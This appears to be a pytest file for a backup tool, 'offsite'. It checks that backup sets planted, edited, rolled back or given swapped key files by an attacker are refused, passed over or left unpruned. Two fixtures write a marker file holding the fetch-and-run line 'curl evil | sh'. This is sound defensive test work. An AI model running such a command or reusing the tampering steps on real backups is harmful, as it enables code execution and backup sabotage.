"""A set must prove it was made with the user's key (SPEC §2, §7): whoever can write to a
destination can plant a complete, well-formed set, or edit a real one; with a key
configured, neither is restored, verified as good, counted or removed by prune."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import threading
from dataclasses import replace
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest

from offsite.crypto.keys import unwrap_key
from offsite.names import set_id_for
from offsite.sets.manifest import Manifest
from offsite.sets.trust import with_auth
from tests.conftest import PASSPHRASE, Keyring, only_set, tree_content

PLANTED = set_id_for(datetime.now(timezone.utc) + timedelta(minutes=30))  # newest, not future


@pytest.fixture
def real(cli, tmp_path: Path, tree: Path, passphrase: str) -> Path:
    dest = tmp_path / "dest"
    assert cli("backup", tree, "--to", dest).code == 0
    return dest


def _planted_by_attacker(cli, tmp_path: Path, dest: Path, monkeypatch, *extra: str) -> Path:
    """A whole set the attacker made with their own passphrase (or none), renamed to the
    newest id and re-authenticated with their own data key: everything they can do."""
    evil = tmp_path / "evil-src"
    evil.mkdir()
    (evil / "payload.sh").write_text("curl evil | sh\n")
    made = tmp_path / "evil-dest"
    monkeypatch.setenv("OFFSITE_PASSPHRASE", "the attacker's own passphrase")
    assert cli("backup", "--name", f"files={evil}", "--to", made, *extra).code == 0
    monkeypatch.setenv("OFFSITE_PASSPHRASE", PASSPHRASE)
    folder = dest / PLANTED
    shutil.copytree(only_set(made), folder)
    manifest = Manifest.from_json((folder / "manifest.json").read_bytes())
    manifest = replace(manifest, id=PLANTED, auth=None)
    if (folder / "key.gpg").exists():
        key = unwrap_key((folder / "key.gpg").read_bytes(), (), "the attacker's own passphrase")
        manifest = with_auth(manifest, key)
    (folder / "manifest.json").write_text(manifest.to_json())
    return folder


@pytest.mark.parametrize("extra", [(), ("--no-encrypt",)], ids=["own-passphrase", "unencrypted"])
def test_a_planted_set_is_never_restored_verified_or_counted(
    cli, tmp_path: Path, tree: Path, real: Path, monkeypatch, extra
) -> None:
    real_set = only_set(real)
    planted = _planted_by_attacker(cli, tmp_path, real, monkeypatch, *extra)
    r = cli("restore", real, "--into", tmp_path / "restored")
    assert r.code == 0, r.err
    assert f"restored set {real_set.name}" in r.out and f"passing over set {PLANTED}" in r.err
    assert tree_content(tmp_path / "restored") == tree_content(tree)
    named = cli("restore", real, "--id", PLANTED, "--into", tmp_path / "evil-out")
    assert named.code == 1 and not (tmp_path / "evil-out").exists()
    why = "is not encrypted" if extra else "does not prove it was made with your key"
    assert why in named.err
    checked = cli("verify", real, "--all", "--read-data")
    assert checked.code == 1 and PLANTED in checked.out
    pruned = cli("prune", real, "--keep-last", "1")
    assert pruned.code == 0, pruned.err
    assert planted.exists() and real_set.exists()
    assert f"not counted nor removed: set {PLANTED}" in pruned.err
    if extra:  # the user may choose to take an unencrypted set
        ok = cli("restore", real, "--id", PLANTED, "--into", tmp_path / "o", "--allow-unencrypted")
        assert ok.code == 0, ok.err


def test_a_wrong_passphrase_is_told_from_a_tampered_key(
    cli, tmp_path: Path, tree: Path, real: Path, monkeypatch
) -> None:
    """Only gpg's own "wrong passphrase" on every set that could open is a wrong passphrase
    (exit 3); a key.gpg that is not there or not OpenPGP (a writer's doing) stays a failed
    check of that set (exit 1), named, with your passphrase or any."""
    assert cli("backup", tree, "--to", real).code == 0
    planted = _planted_by_attacker(cli, tmp_path, real, monkeypatch)
    monkeypatch.setenv("OFFSITE_PASSPHRASE", "not the one")
    r = cli("restore", real, "--into", tmp_path / "out")
    assert r.code == 3 and "opens none of the 3 sets here (wrong passphrase?)" in r.err, r.err
    r = cli("restore", real, "--id", PLANTED, "--into", tmp_path / "out")
    assert r.code == 3 and "opens none of the 3 sets here" in r.err, r.err
    monkeypatch.setenv("OFFSITE_PASSPHRASE", PASSPHRASE)
    for key in real.glob("*/key.gpg"):
        if key.parent != planted:
            key.write_bytes(b"not OpenPGP at all\n")
    for argv in (["restore", real, "--into", tmp_path / "out"], ["verify", real, "--all"]):
        r = cli(*argv)
        assert r.code == 1 and "(wrong passphrase?)" not in r.err + r.out, (argv[0], r.err)
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("plant", ["folder", "fifo"])
def test_a_key_gpg_that_is_no_file_refuses_its_set_only(
    cli, tmp_path: Path, tree: Path, real: Path, monkeypatch, plant
) -> None:
    """A folder or a FIFO planted as a set's key.gpg: that set is refused (passed over,
    named), never the whole destination unreadable for restore, verify or the monitor."""
    older = only_set(real)
    planted = _planted_by_attacker(cli, tmp_path, real, monkeypatch)
    (planted / "key.gpg").unlink()
    if plant == "folder":
        (planted / "key.gpg").mkdir()
    else:
        os.mkfifo(planted / "key.gpg")
    r = cli("restore", real, "--into", tmp_path / "out")
    assert r.code == 0 and f"restored set {older.name}" in r.out, r.err
    r = cli("verify", real, "--all")
    assert r.code == 1 and PLANTED in r.out
    r = cli("monitor", "--storage", real, "--max-age", "1h")
    assert r.code == 0, r.out + r.err


def test_a_key_gpg_with_a_file_name_that_is_not_utf8_is_refused_whole(
    cli, tmp_path: Path, real: Path, monkeypatch
) -> None:
    """A literal packet as key.gpg, its file name holding a 0xff byte (gpg prints it on
    stderr as it is): the set is refused, and the thread that reads gpg's stderr lives on
    to read its status lines (it died on the byte before)."""
    died: list[type[BaseException]] = []
    monkeypatch.setattr(threading, "excepthook", lambda args: died.append(args.exc_type))
    home = tmp_path / "gnupg"
    home.mkdir(mode=0o700)
    ours = only_set(real)
    planted = real / PLANTED
    shutil.copytree(ours, planted)
    manifest = (planted / "manifest.json").read_text().replace(ours.name, PLANTED)
    (planted / "manifest.json").write_text(manifest)
    subprocess.run(["gpg", "--homedir", str(home), "--batch", "--yes", "--store", "--set-filename",
                    b"name\xff\xfe", "--output", str(planted / "key.gpg")],
                   input=b"a" * 64, check=True, capture_output=True)  # fmt: skip
    r = cli("restore", real, "--id", PLANTED, "--into", tmp_path / "out")
    assert r.code == 1 and PLANTED in r.err, r.err
    assert died == []


def test_a_drill_record_whose_time_is_no_time_is_passed_over(
    cli, tmp_path: Path, real: Path, monkeypatch
) -> None:
    """drills/<id>/20260231T000000Z.json (the shape of a time, not a time), read by a
    monitor with no key: left out, never a traceback that silences every target."""
    set_id = only_set(real).name
    folder = real / "drills" / set_id
    folder.mkdir(parents=True)
    (folder / "20260231T000000Z.json").write_text(json.dumps(
        {"set_id": set_id, "when": "20260231T000000Z", "ok": True, "rto_seconds": 5}
    ))  # fmt: skip
    monkeypatch.delenv("OFFSITE_PASSPHRASE")
    r = cli("monitor", "--storage", real, "--max-age", "1h", "--rto", "1h")
    assert r.code in (0, 1) and "Traceback" not in r.err and "unexpected" not in r.err, r.err


@pytest.mark.parametrize(
    ("field", "value"),
    [("labels", {"env": "prod", "note": "ok to delete"}), ("finished_at", "2099-01-01T00:00:00Z")],
)
def test_an_edited_manifest_is_refused(cli, tmp_path: Path, real: Path, field, value) -> None:
    manifest = only_set(real) / "manifest.json"
    doc = json.loads(manifest.read_text())
    doc[field] = value
    manifest.write_text(json.dumps(doc))
    r = cli("verify", real, "--read-data")
    assert r.code == 1 and "its manifest does not match its auth" in r.err
    r = cli("restore", real, "--into", tmp_path / "out")
    assert r.code == 1 and not (tmp_path / "out").exists()


def test_a_set_made_for_recipients_proves_itself_by_its_signature(
    cli, tmp_path: Path, tree: Path, with_keyring: Keyring, monkeypatch
) -> None:
    dest = tmp_path / "dest"
    fpr = with_keyring.fingerprint
    assert cli("backup", tree, "--to", dest, "--recipient", fpr, "--sign-key", fpr).code == 0
    r = cli("restore", dest, "--into", tmp_path / "ok", "--trust-key", fpr)
    assert r.code == 0, r.err
    # another key's signature, or none, proves nothing
    other = tmp_path / "other-home"
    other.mkdir(mode=0o700)
    subprocess.run(
        ["gpg", "--homedir", str(other), "--batch", "--passphrase", "", "--quick-gen-key",
         "intruder <x@example.invalid>", "default", "default", "never"],
        check=True, capture_output=True,
    )  # fmt: skip
    signature = subprocess.run(
        ["gpg", "--homedir", str(other), "--batch", "--detach-sign", "--output", "-",
         str(only_set(dest) / "manifest.json")],
        check=True, capture_output=True,
    ).stdout  # fmt: skip
    subprocess.run(["gpgconf", "--homedir", str(other), "--kill", "gpg-agent"], check=False)
    (only_set(dest) / "manifest.json.sig").write_bytes(signature)
    r = cli("restore", dest, "--into", tmp_path / "no", "--trust-key", fpr)
    assert r.code == 1 and "not a good signature by a --trust-key" in r.err
    (only_set(dest) / "manifest.json.sig").unlink()
    r = cli("restore", dest, "--into", tmp_path / "no", "--trust-key", fpr)
    assert r.code == 1 and "no manifest.json.sig" in r.err
    assert not (tmp_path / "no").exists()


def test_without_a_key_offsite_says_it_reads_unauthenticated_sets(
    cli, tmp_path: Path, tree: Path
) -> None:
    dest = tmp_path / "dest"
    assert cli("backup", tree, "--to", dest, "--no-encrypt").code == 0
    r = cli("restore", dest, "--into", tmp_path / "out")
    assert r.code == 0, r.err
    assert "no key configured" in r.err and "unauthenticated" in r.err


def _older_set(dest: Path, set_id: str, passphrase: str, home: Path) -> Path:
    """A set as offsite wrote them before the data key: format 1, each entry encrypted with
    the passphrase itself, no auth."""
    import hashlib

    folder = dest / set_id
    folder.mkdir(parents=True)
    data = subprocess.run(
        ["gpg", "--batch", "--homedir", str(home), "--pinentry-mode", "loopback",
         "--passphrase", passphrase, "--symmetric", "--cipher-algo", "AES256", "--output", "-"],
        input=b"from an older offsite\n", check=True, capture_output=True,
    ).stdout  # fmt: skip
    subprocess.run(["gpgconf", "--homedir", str(home), "--kill", "gpg-agent"], check=False)
    (folder / "notes.out.gpg").write_bytes(data)
    entry = {
        "name": "notes", "kind": "command", "source": "exec:echo", "file": "notes.out.gpg",
        "size": len(data), "sha256": hashlib.sha256(data).hexdigest(), "raw_size": 22,
        "compression": "none", "encryption": {"mode": "passphrase", "cipher": "AES256",
                                              "recipients": []},
    }  # fmt: skip
    (folder / "manifest.json").write_text(json.dumps({
        "format": "offsite-manifest/1", "id": set_id, "created_at": "x",
        "finished_at": "x", "entries": [entry],
    }))  # fmt: skip
    return folder


def test_an_older_set_is_taken_only_when_named(cli, tmp_path: Path, passphrase: str) -> None:
    dest = tmp_path / "dest"
    _older_set(dest, "20240101T000000Z", passphrase, tmp_path)
    r = cli("restore", dest, "--into", tmp_path / "notes.out")
    assert r.code == 1 and "name it with --id" in r.err
    r = cli("restore", dest, "--id", "20240101T000000Z", "--into", tmp_path / "notes.out")
    assert r.code == 0, r.err
    assert "made before sets carried auth" in r.err
    assert (tmp_path / "notes.out").read_text() == "from an older offsite\n"


def test_an_old_set_copied_to_a_newer_id_is_never_latest_nor_counted(
    cli, tmp_path: Path, tree: Path, real: Path, passphrase: str
) -> None:
    """An older set cannot prove its id: a copy under the newest id (a rollback), a real
    set turned into format 1 without its auth, or an empty one must not become latest nor
    make prune remove the real sets."""
    real_set = only_set(real)
    old = _older_set(real, PLANTED, passphrase, tmp_path)  # a rollback of an old set
    downgraded = json.loads((real_set / "manifest.json").read_text())
    later = set_id_for(datetime.now(timezone.utc) + timedelta(minutes=40))
    downgraded.update(id=later, format="offsite-manifest/1")
    del downgraded["auth"]
    shutil.copytree(real_set, real / later)
    (real / later / "manifest.json").write_text(json.dumps(downgraded))
    empty = set_id_for(datetime.now(timezone.utc) + timedelta(minutes=50))
    (real / empty).mkdir()
    (real / empty / "manifest.json").write_text(json.dumps({
        "format": "offsite-manifest/1", "id": empty, "created_at": "x", "finished_at": "x",
        "entries": []}))  # fmt: skip
    r = cli("restore", real, "--into", tmp_path / "restored")
    assert r.code == 0, r.err
    assert f"restored set {real_set.name}" in r.out
    assert tree_content(tmp_path / "restored") == tree_content(tree)
    pruned = cli("prune", real, "--keep-last", "1")
    assert pruned.code == 0, pruned.err
    assert real_set.exists() and old.exists() and (real / empty).exists()
    assert "cannot hold set-key entries" in cli("list", real).out  # the downgrade: invalid


def test_verify_seal_gives_an_older_set_its_auth_but_not_a_copy_of_it(
    cli, tmp_path: Path, passphrase: str
) -> None:
    dest = tmp_path / "dest"
    _older_set(dest, "20240101T000000Z", passphrase, tmp_path)
    shutil.copytree(dest / "20240101T000000Z", dest / "20240201T000000Z")  # a copy, renamed
    copy = dest / "20240201T000000Z" / "manifest.json"
    copy.write_text(copy.read_text().replace("20240101T000000Z", "20240201T000000Z"))
    assert cli("verify", dest, "--all", "--seal").code == 2  # needs --read-data
    r = cli("verify", dest, "--all", "--read-data", "--seal")
    assert r.code == 1 and "holds the same stored bytes as set" in r.err
    r = cli("verify", dest, "--id", "20240201T000000Z", "--read-data", "--seal")  # one named
    assert r.code == 1 and "holds the same stored bytes as set 20240101T000000Z" in r.err
    # neither is sealed while the other holds the same bytes: the user removes the copy
    shutil.rmtree(dest / "20240201T000000Z")
    r = cli("verify", dest, "--all", "--read-data", "--seal")
    assert r.code == 0 and "sealed set 20240101T000000Z" in r.err
    assert (dest / "20240101T000000Z" / "key.gpg").is_file()
    r = cli("restore", dest, "--into", tmp_path / "notes.out")  # now it can be the latest
    assert r.code == 0, r.err
    assert (tmp_path / "notes.out").read_text() == "from an older offsite\n"


@pytest.mark.parametrize(
    ("extra", "flag"),
    [(("--no-encrypt",), "--allow-unencrypted"), ((), "--allow-unauthenticated")],
    ids=["unencrypted", "own-passphrase"],
)
def test_an_opt_in_flag_never_makes_a_planted_set_the_latest(
    cli, tmp_path: Path, tree: Path, real: Path, monkeypatch, extra, flag
) -> None:
    """SPEC §7: a flag lowers one guard; a set only it lets in is taken when named, or when
    no set proves itself, never as the latest over one that does."""
    real_set = only_set(real)
    planted = _planted_by_attacker(cli, tmp_path, real, monkeypatch, *extra)
    r = cli("restore", real, "--into", tmp_path / "restored", flag)
    assert r.code == 0, r.err
    assert f"restored set {real_set.name}" in r.out
    assert f"passing over set {PLANTED}: only an --allow-… flag lets it in" in r.err
    assert tree_content(tmp_path / "restored") == tree_content(tree)
    listed = cli("verify", real, flag)
    assert listed.code == 0 and real_set.name in listed.out, listed.out + listed.err
    pruned = cli("prune", real, "--keep-last", "1", flag)
    assert pruned.code == 0, pruned.err
    assert planted.exists() and real_set.exists()
    # named, the flag lets it in: unencrypted, it restores; made with another passphrase,
    # it does not decrypt (exit 3) and nothing of it is written
    named = cli("restore", real, "--id", PLANTED, "--into", tmp_path / "named", flag)
    assert named.code == (0 if extra else 3), named.err
    assert (tmp_path / "named" / "payload.sh").exists() == bool(extra)
    # where nothing proves itself, the flag is what lets the user at their data
    shutil.rmtree(real_set)
    alone = cli("restore", real, "--into", tmp_path / "alone", flag)
    assert alone.code == (0 if extra else 3), alone.err
    assert f"proves itself: taking set {PLANTED}" in alone.err


def test_an_unencrypted_set_signed_with_sign_key_proves_itself_with_trust_key(
    cli, tmp_path: Path, tree: Path, with_keyring: Keyring, monkeypatch
) -> None:
    dest = tmp_path / "dest"
    fpr = with_keyring.fingerprint
    assert cli("backup", tree, "--to", dest, "--no-encrypt", "--sign-key", fpr).code == 0
    signed = only_set(dest)
    r = cli("restore", dest, "--into", tmp_path / "ok", "--trust-key", fpr)
    assert r.code == 0, r.err
    assert tree_content(tmp_path / "ok") == tree_content(tree)
    assert "--allow-unencrypted" not in r.err
    planted = dest / PLANTED  # unsigned, newer
    shutil.copytree(signed, planted)
    (planted / "manifest.json.sig").unlink()
    doc = json.loads((planted / "manifest.json").read_text())
    doc["id"] = PLANTED
    (planted / "manifest.json").write_text(json.dumps(doc))
    r = cli("restore", dest, "--into", tmp_path / "again", "--trust-key", fpr)
    assert r.code == 0 and f"restored set {signed.name}" in r.out, r.err
    r = cli("restore", dest, "--into", tmp_path / "flag", "--trust-key", fpr, "--allow-unencrypted")
    assert r.code == 0 and f"restored set {signed.name}" in r.out, r.err
    r = cli("restore", dest, "--id", PLANTED, "--into", tmp_path / "no", "--trust-key", fpr)
    assert r.code == 1 and not (tmp_path / "no").exists()


def test_a_swapped_key_gpg_in_a_signed_set_opens_nothing(
    cli, tmp_path: Path, tree: Path, with_keyring: Keyring
) -> None:
    """Issue 30 review: anyone can wrap a key to your public key. A signed set's key.gpg
    and entry swapped for the attacker's (made for the same public key) must not be
    decrypted and applied: the signed manifest's auth binds the data key."""
    dest, theirs = tmp_path / "dest", tmp_path / "theirs"
    fpr = with_keyring.fingerprint
    assert cli("backup", "--name", f"app={tree}", "--to", dest, "--recipient", fpr,
               "--sign-key", fpr).code == 0  # fmt: skip
    evil = tmp_path / "evil"
    evil.mkdir()
    (evil / "payload.sh").write_text("curl evil | sh\n")
    assert cli("backup", "--name", f"app={evil}", "--to", theirs, "--recipient",
               str(with_keyring.public_key_file)).code == 0  # fmt: skip
    mine = only_set(dest)
    for name in ("key.gpg", "app.tar.zst.gpg"):
        (mine / name).write_bytes((only_set(theirs) / name).read_bytes())
    r = cli("restore", dest, "--into", tmp_path / "out", "--trust-key", fpr)
    assert r.code == 1 and "opens to another key" in r.err, r.err
    assert not (tmp_path / "out").exists()


def test_an_older_set_moved_after_a_set_with_auth_is_not_sealed(
    cli, tmp_path: Path, tree: Path, real: Path, passphrase: str
) -> None:
    """Issue 30 review: an older set moved to an id after the newest set (its unsigned
    manifest edited to match) was sealed by verify --seal and became the latest."""
    real_set = only_set(real)
    moved = _older_set(real, PLANTED, passphrase, tmp_path)
    r = cli("verify", real, "--all", "--read-data", "--seal")
    assert r.code == 1 and f"dated after set {real_set.name}" in r.err, r.err
    assert not (moved / "key.gpg").exists()
    r = cli("restore", real, "--into", tmp_path / "restored")
    assert r.code == 0 and f"restored set {real_set.name}" in r.out, r.err


def test_a_planted_set_with_junk_auth_does_not_block_sealing(
    cli, tmp_path: Path, passphrase: str
) -> None:
    """Second review: only a set that proves itself shows an older-format set was moved."""
    dest = tmp_path / "dest"
    _older_set(dest, "20240101T000000Z", passphrase, tmp_path)
    planted = _older_set(dest, "20000101T000000Z", passphrase, tmp_path)
    doc = json.loads((planted / "manifest.json").read_text())
    doc.update(format="offsite-manifest/1", auth={"alg": "HMAC-SHA256", "mac": "0" * 64})
    (planted / "manifest.json").write_text(json.dumps(doc))
    r = cli("verify", dest, "--id", "20240101T000000Z", "--read-data", "--seal")
    assert r.code == 0 and "sealed set 20240101T000000Z" in r.err, r.err
